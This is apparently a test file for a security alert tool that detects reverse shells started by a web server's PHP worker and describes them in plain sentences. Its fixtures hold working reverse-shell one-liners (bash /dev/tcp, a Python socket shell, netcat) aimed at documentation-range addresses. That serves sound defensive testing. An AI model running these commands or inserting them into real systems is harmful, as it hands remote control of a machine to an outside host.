import { expect, test } from 'vitest';
import { gradeTree, toTrees } from '../detection';
import type { SourceEvent } from '../event/source_event';
import { english } from '../i18n/english';
import { extendedRule } from '../rule/extended_rule';
import { toShippedParams } from '../rule/rule_params';
import { findAlertSigns } from './find_alert_signs';
import { fromAlertDocument } from './from_alert_document';
import { ALERT_FIELD } from './alert_document';
import { toCaseSentence } from './to_case_sentence';
import { toTreeAlert } from './to_tree_alert';

const toEvent = (script: string, entityId: string | undefined = 'shell'): SourceEvent => ({
  id: 'event-1',
  index: 'logs',
  source: {
    '@timestamp': '2026-11-24T03:00:00.000Z',
    event: { category: ['process'], type: ['start'], action: 'exec' },
    host: { name: 'web-01', id: 'host-1', os: { type: 'linux' } },
    user: { name: 'www-data' },
    process: {
      ...(entityId !== undefined && { entity_id: entityId }),
      name: 'sh',
      executable: '/usr/bin/sh',
      args: ['sh', '-c', script],
      parent: { entity_id: 'worker', name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' },
    },
  },
});

const toAlertOf = ({ source, id, index }: SourceEvent) => ({
  signs: [],
  event: source,
  eventId: id,
  eventIndex: index,
});

const REVERSE_SHELL = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1';

test('reads back the signs, the tree and its events as a tree’s alert was stored', () => {
  const [tree] = toTrees([toEvent(REVERSE_SHELL)]);
  if (tree === undefined) throw new Error('No tree.');
  const grade = gradeTree(tree);
  const rule = {
    uuid: 'rule-1',
    definition: extendedRule,
    params: toShippedParams(extendedRule),
    locale: 'en' as const,
  };
  const { payload } = toTreeAlert(tree, grade, rule, english);
  const alert = fromAlertDocument(JSON.parse(JSON.stringify(payload)) as Record<string, unknown>);
  expect(alert.signs).toEqual(grade.signs);
  expect(alert.signs.length).toBeGreaterThan(0);
  expect(alert).toMatchObject({ treeId: tree.id, treeEvents: ['event-1'] });
  expect(findAlertSigns(alert)).toBe(alert.signs);
});

test('leaves out a stored sign of another version or another making', () => {
  const sign = { id: 'reverse_shell', params: {}, eventId: 'e', eventIndex: 'i', weight: 95 };
  const { signs } = fromAlertDocument({
    [ALERT_FIELD.signs]: [
      sign,
      { ...sign, id: 'unheard_of' },
      { ...sign, params: { what: [] } },
      7,
    ],
  });
  expect(signs).toEqual([{ ...sign, technique: undefined }]);
});

test('says who did what, in words for somebody who reads no command lines', () => {
  expect(toCaseSentence(toAlertOf(toEvent(REVERSE_SHELL)), english)).toBe(
    'sh, started by php-fpm8.2 as www-data on web-01, opens a shell for another machine: bash -i, and starts an interactive shell. The command names 203.0.113.9 on the internet.'
  );
});

test('grades the event where nothing is stored, and names the command where nothing speaks for an attack', () => {
  expect(findAlertSigns(toAlertOf(toEvent(REVERSE_SHELL))).map(({ id }) => id)).toContain(
    'reverse_shell'
  );
  const { source, ...address } = toEvent('id');
  const { process: _process, ...rest } = source as { process: unknown };
  const alert = toAlertOf({
    ...address,
    source: { ...rest, process: { name: 'sh', args: ['x'] } },
  });
  expect(findAlertSigns(alert)).toEqual([]);
  expect(toCaseSentence(alert, english)).toContain('started sh as user www-data on web-01: x');
});

test('leaves out of the sentence code that is too long to be read in one', () => {
  const code = `import socket,os;s=socket.socket();s.connect(("203.0.113.9",443));os.dup2(s.fileno(),0);os.system("/bin/sh -i")`;
  const sentence = toCaseSentence(toAlertOf(toEvent(`python3 -c '${code}'`)), english);
  expect(sentence).toContain('on web-01, opens a shell for another machine, and ');
  expect(sentence).not.toContain('import');
});

test('stays one sentence of bounded length whatever the command holds', () => {
  const long = `bash -i >& /dev/tcp/203.0.113.9/443 0>&1 #${'x'.repeat(50_000)}`;
  expect(toCaseSentence(toAlertOf(toEvent(long)), english).length).toBeLessThan(1000);
});

test('names the addresses of what a script was made to run', () => {
  const event = toEvent(REVERSE_SHELL);
  const tellingCommand = 'sh -c nc 198.51.100.7 4444';
  expect(toCaseSentence({ ...toAlertOf(event), tellingCommand }, english)).toContain(
    'The command names 198.51.100.7 on the internet.'
  );
});
